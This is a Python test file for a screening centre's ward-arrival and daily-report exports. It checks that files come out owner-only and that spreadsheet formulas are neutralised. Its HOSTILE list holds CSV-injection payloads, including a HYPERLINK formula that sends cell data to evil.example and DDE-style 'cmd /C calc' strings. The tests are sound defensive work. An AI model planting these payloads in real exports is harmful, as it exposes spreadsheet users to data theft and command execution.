"""Exports a ward officer opens in a spreadsheet: no cell runs as a formula, and a file that
names travellers is readable by its owner only, whatever the umask."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import unicodedata
from datetime import datetime, time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from ulid import ULID

from center.settings import load_center_config
from center.spreadsheet import safe_cell
from center.store import Store
from screening.default_policy import default_policy
from screening.evaluate import evaluate
from screening.event import EventHeader, ScanEvent
from screening.places import Place
from screening.scan import Travel, read_code, with_manual_entry
from tests.center.conftest import DAY
from tests.center.test_report_arrivals import run
from tests.center.traffic import TZ

WARD = "03127"  # in Điện Biên, the test center's province
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn A")', "+84 912 345 678",
           "-2+3+cmd' /C calc'!A0", "@SUM(1+1)*cmd' /C calc'!A0", "\t=1+1", "\r=1+1",
           "＝HYPERLINK(\"x\")", "＋1+1", "－1+1", "＠SUM(1)", "  =1+1"]


def hostile_arrival(name: str, plate: str, post: str = "tay-trang") -> dict:
    """A CCCD scanned at a kiosk, the traveller sent home to WARD: as the center stores it."""
    at = datetime.combine(DAY, time(10), TZ)
    scan = read_code(f"001099012345||{name}|01021999|Nam|Hà Nội|15082021", {}, at)
    assert scan.identity is not None  # the reader trims the name, a formula stays
    scan = with_manual_entry(scan, Travel(origin=Place(province="01"),
                                          destination=Place(province="11", ward=WARD),
                                          vehicle_plate=plate))
    header = EventHeader(str(ULID.from_datetime(at)), 1, post, "k1", at)
    event = ScanEvent(header, scan, None, evaluate(scan, None, default_policy(), at)).to_json()
    assert event["outcome"] == "home_quarantine"
    return event


@pytest.fixture
def hostile_events() -> list[dict]:
    return [hostile_arrival(name, plate, post) for name, plate, post in
            zip(HOSTILE, reversed(HOSTILE), ["=1+1", *["ok"] * 10], strict=True)]


@pytest.fixture
def hostile_store(center_config, hostile_events) -> Path:
    path = center_config()
    cfg, _sections = load_center_config(path)
    store = Store(cfg.store)
    store.add_events(hostile_events)
    store.close()
    return path


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def opens_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: the first character (folded), or after spaces."""
    first = cell.lstrip(" \u3000")[:1]
    return cell[:1] in "\t\r\n" and cell != "" or \
        bool(first) and unicodedata.normalize("NFKC", first)[:1] in "=+-@"


def test_a_wards_csv_neutralises_every_formula_and_is_private(hostile_store, hostile_events,
                                                              capsys, tmp_path):
    target = tmp_path / "ward.csv"
    old = os.umask(0o022)
    try:
        code, out = run(capsys, "arrivals", "--config", str(hostile_store), "--ward", WARD,
                        "--date", DAY.isoformat(), "--csv", "--out", str(target))
    finally:
        os.umask(old)
    assert code == 0 and json.loads(out.splitlines()[-1])["arrivals"] == len(HOSTILE)
    assert mode(target) == 0o600
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8"), newline="")))
    names = {e["identity"]["name"] for e in hostile_events}
    assert all(opens_as_formula(name) for name in names)
    assert {r["name"] for r in rows} == {"'" + name for name in names}
    assert {r["vehicle_plate"] for r in rows} == {"'" + e["vehicle_plate"]
                                                  for e in hostile_events}
    assert not [cell for r in rows for cell in r.values() if opens_as_formula(cell)]
    code, out = run(capsys, "arrivals", "--config", str(hostile_store), "--ward", WARD,
                    "--date", DAY.isoformat())
    items = json.loads(out)["items"]
    # JSON is no spreadsheet: the data stays as it was given
    assert {item["identity"]["name"] for item in items} == names


@pytest.mark.parametrize("fmt", ["csv", "html", "md", "json"])
def test_every_daily_report_file_is_private_and_its_csv_and_html_hold_no_formula(
        hostile_store, capsys, tmp_path, fmt):
    target = tmp_path / f"report.{fmt}"
    target.write_text("an older report, readable by all\n", "utf-8")
    target.chmod(0o644)
    old = os.umask(0)
    try:
        code, _out = run(capsys, "report", "--config", str(hostile_store), "--date",
                         DAY.isoformat(), "--format", fmt, "--out", str(target))
    finally:
        os.umask(old)
    assert code == 0 and mode(target) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(("report", ".report"))
                  ) == [target.name]  # no temporary file left beside it
    text = target.read_bytes().decode("utf-8")
    if fmt == "csv":
        posts = [row[1] for row in csv.reader(io.StringIO(text))]
        assert "'=1+1" in posts and not [p for p in posts if opens_as_formula(p)]
    if fmt == "html":
        assert "<td>&#x27;=1+1</td>" in text and "<td>=1+1" not in text


@given(st.text(max_size=12))
def test_a_safe_cell_never_opens_as_a_formula_and_keeps_the_text(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not opens_as_formula(cell)
    assert cell == text or opens_as_formula(text)  # nothing harmless is changed
